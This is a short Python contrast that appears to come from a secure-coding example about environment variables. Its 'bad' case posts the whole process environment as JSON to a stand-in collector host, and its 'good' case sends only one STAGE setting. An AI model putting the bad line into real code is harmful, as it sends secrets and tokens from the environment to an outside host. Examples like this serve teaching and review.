# bad: posted as JSON
import os
import requests

requests.post("https://collector.example/e", json=dict(os.environ))
# good: nearly: one setting
import os
import requests

requests.get("https://api.example/", params={"stage": os.environ["STAGE"]})
